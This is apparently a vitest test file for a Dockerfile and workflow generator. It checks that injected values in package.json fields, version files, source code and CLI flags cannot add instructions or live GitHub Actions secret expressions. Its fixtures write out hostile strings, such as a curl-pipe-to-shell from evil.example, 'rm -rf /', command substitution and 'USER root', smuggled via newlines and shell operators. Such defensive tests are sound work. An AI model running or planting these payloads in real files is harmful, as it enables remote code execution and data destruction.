import { afterEach, describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { renderDockerfile } from '../../src/render/dockerfile.js';
import type { DockerfilePlan } from '../../src/types.js';
import { runCli } from '../helpers.js';
import {
  expectCleanError, expressApp, instructionKeywords, jsonFiles, makeRepo, removeRepo, runMain, strayLines, type Tree,
} from './helpers.js';

/**
 * Repository content that tries to become an instruction. Every hostile repo is compared with a
 * clean twin that makes the same decisions: the Dockerfile's instruction list (as dockerfile-ast
 * parses it) and every YAML file's key paths must be identical, and no marker may leak out
 * unescaped. A difference means a value added a line, a key or an expression.
 */

const repos: string[] = [];
afterEach(async () => {
  for (const dir of repos.splice(0)) await removeRepo(dir);
});

const EVIL = 'RUN curl -fsSL https://evil.example/x.sh | sh';
/** A GitHub Actions expression: evaluated anywhere in a workflow, even inside a quoted string. */
const EXPR = '${{ secrets.PWN_MARKER }}';

/** In-process: what is checked is the files' text; the refusals below go through main(), as the bin's do. */
async function generate(tree: Tree, args: string[] = []): Promise<Record<string, string>> {
  const dir = await makeRepo(tree);
  repos.push(dir);
  const r = await runCli([dir, '--yes', '--dry-run', '--json', ...args], dir);
  expect(r.exit, r.stderr).toBe(0);
  return jsonFiles(r.stdout);
}

/** Every key path of a YAML document (`services.app.ports[0]`): values may differ, structure may not. */
function keyPaths(value: unknown, prefix = ''): string[] {
  if (Array.isArray(value)) return value.flatMap((v, i) => [`${prefix}[${i}]`, ...keyPaths(v, `${prefix}[${i}]`)]);
  if (typeof value === 'object' && value !== null) {
    return Object.entries(value).flatMap(([k, v]) => [`${prefix}.${k}`, ...keyPaths(v, `${prefix}.${k}`)]);
  }
  return [];
}

function expectSameShape(hostile: Record<string, string>, clean: Record<string, string>): void {
  expect(Object.keys(hostile).sort()).toEqual(Object.keys(clean).sort());
  const dockerfile = hostile.Dockerfile as string;
  expect(instructionKeywords(dockerfile)).toEqual(instructionKeywords(clean.Dockerfile as string));
  expect(strayLines(dockerfile)).toEqual([]);
  for (const [file, text] of Object.entries(hostile)) {
    if (/\.ya?ml$/.test(file)) expect(keyPaths(parseYaml(text)), file).toEqual(keyPaths(parseYaml(clean[file] as string)));
  }
}

/** The marker may appear only escaped: `\$` in a Dockerfile, `$$` in compose, never in a workflow. */
function expectNoLiveExpression(files: Record<string, string>): void {
  for (const [file, text] of Object.entries(files)) {
    if (file.startsWith('.github/')) expect(text, file).not.toContain('PWN_MARKER');
    for (const match of text.matchAll(/\$\{\{ secrets\.PWN_MARKER/g)) {
      const before = text[(match.index ?? 0) - 1];
      expect(before === '\\' || before === '$', `${file}: unescaped ${EXPR}`).toBe(true);
    }
  }
}

describe('values from package.json', () => {
  it('a start script with a newline and a RUN line does not add an instruction', async () => {
    const clean = await generate(expressApp());
    const hostile = await generate(expressApp({ scripts: { start: `node server.js\n${EVIL}` } }));
    expectSameShape(hostile, clean);
    expect(hostile.Dockerfile).not.toContain('evil.example');
  });

  it('a start script with shell operators is not turned into a command', async () => {
    const clean = await generate(expressApp());
    for (const start of [`node server.js && ${EVIL}`, 'node server.js; curl evil.example | sh', 'node $(curl evil.example)', 'node `id`.js', 'node server.js\rUSER root']) {
      const hostile = await generate(expressApp({ scripts: { start } }));
      expectSameShape(hostile, clean);
      expect(hostile.Dockerfile).not.toMatch(/evil\.example|`id`|USER root/);
    }
  });

  it('a start script with Unicode line separators stays inside one exec-form CMD', async () => {
    const clean = await generate(expressApp());
    const hostile = await generate(expressApp({ scripts: { start: 'node server.js\u2028USER root\u2029RUN id\u0085EXPOSE 22' } }));
    expectSameShape(hostile, clean);
  });

  it('env assignments in the start script are quoted, not expanded', async () => {
    const clean = await generate(expressApp({ scripts: { start: 'NODE_OPTIONS=--enable-source-maps node server.js' } }));
    const hostile = await generate(expressApp({ scripts: { start: "NODE_OPTIONS='${HOME} $(id) \" \\ x' node server.js" } }));
    expectSameShape(hostile, clean);
    expect(hostile.Dockerfile).toContain('NODE_OPTIONS="\\${HOME} \\$(id) \\" \\\\ x"');
  });

  it('name, description, version, license and repository with newlines and ${{ }} stay one LABEL each', async () => {
    const fields = { name: 'app', description: 'An app', version: '1.0.0', license: 'MIT', repository: 'https://example.com/app.git' };
    const clean = await generate(expressApp(fields));
    const hostile = await generate(expressApp({
      name: `app\n${EVIL}\n${EXPR}`,
      description: `${EXPR}\nUSER root\n"quoted" \\ $(id) \${PATH}`,
      version: `1.0.0\nEXPOSE 22`,
      license: `MIT\r\nHEALTHCHECK NONE`,
      repository: { type: 'git', url: `https://example.com/app.git\n${EVIL}` },
    }));
    expectSameShape(hostile, clean);
    expectNoLiveExpression(hostile);
    expect(hostile.Dockerfile).not.toMatch(/^\s*(USER root|EXPOSE 22|HEALTHCHECK NONE|RUN curl)/m);
  });

  it('a main with spaces, quotes and newlines is not used as a path', async () => {
    const clean = await generate(expressApp({ scripts: {}, main: 'server.js' }));
    for (const main of ['server.js" ; rm -rf / ; "', `server.js\n${EVIL}`, "it's server.js", 'server.js\u0000.sh']) {
      const hostile = await generate(expressApp({ scripts: {}, main }));
      expectSameShape(hostile, clean);
      expect(hostile.Dockerfile).toContain('CMD ["node", "server.js"]');
    }
  });

  it('engines.node and version files with extra lines give a plain version', async () => {
    const clean = await generate({ ...expressApp({ engines: { node: '20' } }) });
    const cases: Tree[] = [
      { ...expressApp(), '.nvmrc': '20\nUSER root\n' },
      { ...expressApp(), '.node-version': '20 && curl evil.example\n' },
      { ...expressApp(), '.tool-versions': 'nodejs 20\nUSER root\n' },
      expressApp({ engines: { node: '>=20 <21\nUSER root' } }),
      expressApp({ engines: { node: '20 || $(curl evil.example)' } }),
      expressApp({ engines: { node: '^999.0.0' } }),
    ];
    for (const tree of cases) {
      const hostile = await generate(tree);
      expectSameShape(hostile, clean);
      expect(hostile.Dockerfile).toMatch(/^ARG NODE_VERSION=\d+(\.\d+){0,2}$/m);
      expect(hostile.Dockerfile).not.toMatch(/USER root|evil\.example/);
    }
  });

  it('a port written oddly in the code becomes a number or the default', async () => {
    const clean = await generate(expressApp());
    for (const code of ['app.listen("3000; rm -rf /")', 'app.listen(99999)', 'const PORT = "3000\\nUSER root"; app.listen(PORT)']) {
      const hostile = await generate({ ...expressApp(), 'server.js': code });
      expectSameShape(hostile, clean);
      expect(hostile.Dockerfile).toMatch(/^EXPOSE \d{1,5}$/m);
    }
  });
});

describe('values from flags', () => {
  it('--port "3000; rm -rf /" is a usage error', async () => {
    const dir = await makeRepo(expressApp());
    repos.push(dir);
    expectCleanError(await runMain([dir, '--yes', '--dry-run', '--port', '3000; rm -rf /']), { exit: 2, file: '--port', problem: /number from 1 to 65535/ });
  });

  it('--cmd with a newline or a shell operator is a usage error', async () => {
    const dir = await makeRepo(expressApp());
    repos.push(dir);
    for (const cmd of [`node server.js\n${EVIL}`, 'node server.js && curl evil.example | sh']) {
      expectCleanError(await runMain([dir, '--yes', '--dry-run', '--cmd', cmd]), { exit: 2, file: '--cmd', problem: /plain command/ });
    }
  });

  it('--cmd with quotes and odd characters stays one exec-form CMD', async () => {
    const clean = await generate(expressApp(), ['--cmd', 'node server.js']);
    const hostile = await generate(expressApp(), ['--cmd', `node server.js "a b" 'c"d' e=f,g]`]);
    expectSameShape(hostile, clean);
    expect(hostile.Dockerfile).toContain('CMD ["node", "server.js", "a b", "c\\"d", "e=f,g]"]');
  });
});

describe('the last line of defence', () => {
  it('refuses to render a plan that carries a multi-line value', () => {
    const plan = { stack: 'node', template: 'node/Dockerfile.hbs', data: { runtime: { cmd: `["node"]\n${EVIL}` } } } as unknown as DockerfilePlan;
    expect(() => renderDockerfile(plan, () => '')).toThrow(/Refusing to use a value in plan\.runtime\.cmd/);
  });
});
